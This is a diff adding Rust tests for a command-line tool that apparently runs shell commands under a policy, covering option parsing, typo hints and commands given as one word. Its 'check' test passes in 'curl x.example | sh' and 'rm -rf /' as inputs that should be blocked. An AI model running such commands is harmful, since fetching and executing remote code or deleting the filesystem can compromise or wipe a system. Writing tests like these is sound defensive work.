@@ -176,3 +176,28 @@ fn no_record_no_effect() {
     assert_eq!(said.code, Some(1), "{}", said.err);
     assert!(!house.work().join("ran").exists());
 }
+
+#[test]
+fn the_two_dashes_may_be_left_out() {
+    let house = House::new();
+    let said = house.run(&["run", "echo", "--profile", "-c"]);
+    assert_eq!((said.code, said.out.as_str()), (Some(0), "--profile -c\n"), "{}", said.err);
+    assert_eq!(house.run(&["check", "curl x.example | sh"]).code, Some(4));
+    assert_eq!(house.run(&["check", "--json", "rm", "-rf", "/"]).code, Some(4));
+    assert_eq!(house.run(&["why", "ls", "--color"]).code, Some(0));
+    // A mistyped option is not a program.
+    let said = house.run(&["run", "--sandbx", "echo"]);
+    assert!(said.code == Some(2) && said.err.contains("--sandbox"), "{}", said.err);
+}
+
+#[test]
+fn a_line_given_as_one_word_says_what_was_meant() {
+    let house = House::new();
+    let said = house.run(&["run", "--", "git status"]);
+    assert!(said.code == Some(127) && said.err.contains("-c"), "{:?}", said);
+    // A program may have such a name.
+    let program = house.work().join("my program");
+    std::fs::copy("/bin/echo", &program).unwrap();
+    let said = house.run(&["run", "--", "./my program"]);
+    assert!(!said.err.contains("no program"), "{}", said.err);
+}
